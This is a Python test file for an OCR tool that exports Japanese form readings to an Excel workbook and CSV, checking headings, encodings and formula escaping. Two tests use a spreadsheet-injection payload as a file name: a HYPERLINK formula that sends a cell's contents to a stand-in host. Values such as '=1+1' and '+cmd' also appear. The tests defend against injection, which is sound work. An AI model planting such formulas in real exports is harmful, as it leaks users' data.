"""The batch workbook and CSV that departments open in Excel."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from core.errors import InvalidInput
from ocr import (
    DocumentReading,
    FieldReading,
    FormTemplate,
    PageReading,
    column_labels,
    write_csv,
    write_workbook,
)


def _reading(template: FormTemplate, source: str, name: str = "山田\u3000太郎") -> DocumentReading:
    fields = {}
    for spec in template.fields:
        value = name if spec.name == "name" else ("1" if spec.kind == "checkbox" else "")
        fields[spec.name] = FieldReading(kind=spec.kind, value=value, confidence=0.97,
                                         engine="ppocr", name=spec.name,
                                         accepted=spec.name != "my_number",
                                         reasons=("確信度が基準未満です",)
                                         if spec.name == "my_number" else ())
    return DocumentReading(source, template.name, (PageReading(1, 0, 0.9, fields),))


def test_every_field_has_a_unique_japanese_heading(template: FormTemplate) -> None:
    labels = column_labels(template)
    assert len(set(labels.values())) == len(template.fields)
    assert labels["name"] == "氏名"
    assert labels["child1_name"].startswith("児童1")
    assert labels["spouse_no"] == "配偶者 無"


def test_workbook_has_a_row_per_document_and_a_sheet_per_field(
    template: FormTemplate, tmp: Path
) -> None:
    readings = [_reading(template, "/scans/a.pdf"), _reading(template, "/scans/b.png")]
    path = write_workbook(readings, tmp / "out.xlsx", template,
                          failures=[("broken.pdf", "invalid-input: not a readable PDF")])
    book = load_workbook(path)
    summary = book["一覧"]
    headings = [cell.value for cell in summary[1]]
    assert headings[:4] == ["ファイル", "ページ", "自動確定", "要確認項目数"]
    assert "氏名" in headings and "個人番号" in headings
    rows = list(summary.iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in rows] == ["a.pdf", "b.png", "broken.pdf"]
    assert rows[0][2] == "いいえ" and rows[0][3] == 1
    assert "not a readable PDF" in str(rows[2][5])
    assert len(book.sheetnames) == 1 + len(template.fields)
    sheet = book["個人番号"]
    assert [cell.value for cell in sheet[1]][:7] == [
        "ファイル", "ページ", "値", "正規化値", "確信度", "自動確定", "理由"]
    assert sheet.cell(2, 6).value == "いいえ" and sheet.cell(2, 5).value == 0.97


def test_csv_in_utf8_with_bom_and_in_cp932(template: FormTemplate, tmp: Path) -> None:
    readings = [_reading(template, "a.pdf")]
    utf8 = write_csv(readings, tmp / "u.csv", template).read_bytes()
    assert utf8.startswith(b"\xef\xbb\xbf")
    assert "山田\u3000太郎" in utf8.decode("utf-8-sig")
    sjis = write_csv(readings, tmp / "s.csv", template, encoding="cp932").read_bytes()
    assert sjis.decode("cp932").splitlines()[0].startswith("ファイル,ページ,自動確定")


def test_a_name_cp932_cannot_hold_is_an_error_not_a_question_mark(
    template: FormTemplate, tmp: Path
) -> None:
    readings = [_reading(template, "a.pdf", name="𠮷田\u3000花子")]
    with pytest.raises(InvalidInput, match="utf-8-sig"):
        write_csv(readings, tmp / "s.csv", template, encoding="cp932")
    assert not (tmp / "s.csv").exists()


HOSTILE_NAME = '=HYPERLINK("http:\\\\example.invalid\\?leak="&A3,"詳細").pdf'  # no "/" in names


def test_a_file_named_like_a_formula_is_text_in_the_workbook(
    template: FormTemplate, tmp: Path
) -> None:
    import zipfile

    readings = [_reading(template, f"/scans/{HOSTILE_NAME}", name="-1+2")]
    path = write_workbook(readings, tmp / "out.xlsx", template,
                          failures=[("@SUM(A1).pdf", "=1+1")])
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet for sheet in sheets)
    book = load_workbook(path)
    summary = book["一覧"]
    cell = summary.cell(2, 1)
    assert cell.data_type == "s" and cell.value == "'" + HOSTILE_NAME
    assert summary.cell(3, 1).value == "'@SUM(A1).pdf" and summary.cell(3, 6).value == "'=1+1"
    name_column = [c.value for c in summary[1]].index("氏名") + 1
    assert summary.cell(2, name_column).value == "'-1+2"
    assert summary.cell(2, 2).value == 1 and summary.cell(2, 2).data_type == "n"
    assert book["氏名"].cell(2, 1).value == "'" + HOSTILE_NAME


def test_a_file_named_like_a_formula_starts_with_a_quote_in_the_csv(
    template: FormTemplate, tmp: Path
) -> None:
    import csv

    readings = [_reading(template, f"/scans/{HOSTILE_NAME}")]
    path = write_csv(readings, tmp / "out.csv", template, failures=[("\t=1.pdf", "+cmd")])
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[1][0] == "'" + HOSTILE_NAME
    assert rows[2][0] == "'\t=1.pdf" and rows[2][5] == "'+cmd"
    assert rows[1][1] == "1"  # the page number is still a plain number
